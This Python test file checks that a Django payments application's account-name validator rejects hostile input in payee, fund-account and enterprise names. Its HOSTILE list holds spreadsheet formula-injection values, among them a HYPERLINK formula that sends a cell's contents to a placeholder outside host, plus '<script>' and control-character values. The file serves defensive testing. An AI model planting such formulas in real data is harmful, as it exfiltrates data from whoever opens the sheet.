"""Account names (issue 11) are checked where they are entered: a payee's account (a provider's,
a person's, an enterprise's; on the page, through the API, when a returned payee is corrected),
a fund account, and the enterprise a claim or a roster names. One rule (claims.validators.
checked_account_name): letters (Chinese characters included), digits, spaces, brackets in half
and full width, the middle dot and the few marks company names use, starting with a letter, a
digit or a bracket, no longer than the column. Anything else is a 400 naming the field."""

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from claims.errors import InvalidInput
from claims.models import Provider
from claims.validators import checked_account_name
from payments.models import FundAccount, PayeeAccount
from payments.services.funds import create_fund_account
from payments.services.payees import set_payee_account

from .api_support import error, login
from .conftest import claim_data
from .test_enterprise_payee import PUMP_WORKS
from .test_roster_import import HEADER as ROSTER_HEADER
from .test_roster_import import IMPORT_URL, fill_template, trainee_row

HOSTILE = [
    '=HYPERLINK("http://x.invalid/?"&E2,"x")',
    "@SUM(1)",
    "'@SUM(1)'",
    "+86 温岭",
    "-1+1",
    "温岭\t学校",
    "温岭\r学校",
    "a=b",
    "<script>",
]


@pytest.mark.parametrize(
    "name",
    [
        "温岭市某职业技能培训学校",
        "温岭市某职业技能培训学校（有限公司）",
        "阿依古丽·买买提",
        "ABC Trading Co., Ltd.",
        "中外合资(A-B)泵业有限公司",
        "A&B 科技",
        "【温岭】某培训中心",
        "张三",
        "Zhang San",
        "123 培训部",
    ],
)
def test_real_account_names_are_accepted(name):
    assert checked_account_name(f"  {name} ") == name


@pytest.mark.parametrize("name", HOSTILE)
def test_formulas_and_odd_marks_are_refused(name):
    with pytest.raises(ValidationError) as refused:
        checked_account_name(name)
    assert refused.value.code == "characters"


def test_a_name_longer_than_its_column_is_refused():
    assert checked_account_name("名" * 200) == "名" * 200
    with pytest.raises(ValidationError) as refused:
        checked_account_name("名" * 201)
    assert refused.value.messages == ["不能超过 200 个字符。"]


def test_the_payee_account_api_answers_400_naming_the_field_and_saves_nothing(demo):
    finance = login("finance_officer")
    before = PayeeAccount.objects.get(provider__code="WL-P001").account_name
    for name in [*HOSTILE, "名" * 201]:
        body = error(
            finance.put(
                "/api/v1/payee-accounts/providers/WL-P001/",
                {"account_name": name, "bank_name": "工商银行", "account_number": "6222000011112222"},
                format="json",
            ),
            400,
        )
        assert list(body["fields"]) == ["account_name"], (name, body)
    body = error(
        finance.put(
            "/api/v1/payee-accounts/providers/WL-P001/",
            {"account_name": "温岭学校", "bank_name": "=1+1", "account_number": "6222000011112222"},
            format="json",
        ),
        400,
    )
    assert list(body["fields"]) == ["bank_name"]
    assert PayeeAccount.objects.get(provider__code="WL-P001").account_name == before


def test_the_payee_accounts_page_shows_the_error_next_to_the_field(demo):
    finance = Client()
    finance.force_login(demo["finance_officer"])
    response = finance.post(
        reverse("payments:payee_accounts"),
        {"provider": "WL-P001", "account_name": "@SUM(1)", "bank_name": "工商银行", "account_number": "6222000011112222"},
    )
    assert response.status_code == 400
    assert "名称只能包含汉字、字母、数字" in response.content.decode()
    assert PayeeAccount.objects.get(provider__code="WL-P001").account_name != "@SUM(1)"


def test_every_service_that_sets_an_account_checks_the_name(demo):
    with pytest.raises(InvalidInput) as refused:
        set_payee_account(
            actor=demo["finance_officer"],
            provider=Provider.objects.get(code="WL-P001"),
            account_name="=HYPERLINK(1)",
            bank_name="工商银行",
            account_number="6222000011112222",
        )
    assert list(refused.value.fields) == ["account_name"]
    wl = Provider.objects.get(code="WL-P001").jurisdiction
    with pytest.raises(InvalidInput) as refused:
        create_fund_account(
            actor=demo["finance_officer"],
            jurisdiction=wl,
            year=2099,
            name="@专账",
            bank_name="工商银行",
            account_number="1" * 41,
            budget="1000.00",
        )
    assert refused.value.fields == {
        "name": ["名称只能包含汉字、字母、数字、空格、括号、间隔号（·）及 . , & - ' 、，并须以汉字、字母、数字或括号开头。"],
        "account_number": ["不能超过 40 个字符。"],
    }
    assert not FundAccount.objects.filter(year=2099).exists()


def test_the_fund_account_api_and_page_refuse_a_hostile_name(demo):
    body = {"year": 2099, "name": "=1+1", "bank_name": "工商银行", "account_number": "12070002", "budget": "500000.00"}
    assert list(error(login("finance_officer").post("/api/v1/fund-accounts/", body, format="json"), 400)["fields"]) == ["name"]
    finance = Client()
    finance.force_login(demo["finance_officer"])
    wl = Provider.objects.get(code="WL-P001").jurisdiction
    response = finance.post(
        "/payments/funds/accounts/new/",
        {"jurisdiction": str(wl.pk), "year": 2099, "name": "=1+1", "bank_name": "b", "account_number": "1", "budget": "1.00"},
    )
    assert response.status_code == 400 and "名称只能包含汉字、字母、数字" in response.content.decode()
    assert not FundAccount.objects.filter(year=2099).exists()


def test_a_roster_naming_a_hostile_enterprise_is_refused_naming_the_field(demo):
    clerk = login("provider_clerk")
    upload = SimpleUploadedFile("花名册.xlsx", fill_template([trainee_row(1)]))
    header = {**ROSTER_HEADER, "policy": "S10", **PUMP_WORKS, "enterprise_name": '=HYPERLINK("x")'}
    body = error(clerk.post(IMPORT_URL, {**header, "file": upload}, format="multipart"), 400)
    assert "enterprise_name" in body["fields"], body
    # The same rule through the API's claim form.
    body = error(
        clerk.post("/api/v1/claims/", claim_data(policy="S10", **{**PUMP_WORKS, "enterprise_name": "@SUM(1)"}), format="json"),
        400,
    )
    assert "enterprise_name" in body["fields"], body
